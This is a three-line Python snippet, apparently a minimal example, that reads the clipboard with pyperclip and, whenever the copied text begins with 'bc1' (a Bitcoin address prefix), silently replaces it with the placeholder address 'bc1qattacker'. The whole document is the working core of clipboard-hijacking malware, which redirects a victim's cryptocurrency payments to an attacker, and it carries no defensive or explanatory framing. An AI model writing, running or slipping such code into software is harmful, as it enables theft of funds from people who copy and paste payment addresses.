import pyperclip
if pyperclip.paste().startswith("bc1"):
    pyperclip.copy("bc1qattacker")
